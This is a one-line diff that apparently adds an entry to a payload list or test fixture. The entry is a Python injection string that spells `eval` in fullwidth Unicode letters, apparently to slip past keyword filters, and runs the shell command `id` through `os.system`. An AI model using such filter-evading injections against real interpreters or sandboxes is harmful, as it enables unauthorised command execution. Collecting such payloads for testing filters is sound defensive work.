@@ -1,0 +1,1 @@
+ｅｖａｌ("__import__('os').system('id')")
